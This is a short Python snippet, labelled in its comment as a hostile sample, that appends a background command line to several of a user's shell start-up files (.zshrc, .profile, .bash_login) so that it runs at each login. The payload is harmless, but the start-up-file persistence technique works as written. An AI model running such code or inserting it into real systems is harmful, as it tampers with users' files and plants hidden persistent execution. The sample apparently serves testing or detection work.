# hostile: several shell start-up files at once
import os

home = os.environ.get("HOME", "/root")
for rc in (".zshrc", ".profile", ".bash_login"):
    with open(os.path.join(home, rc), "a") as fh:
        fh.write("\n(sleep 5; id) &\n")
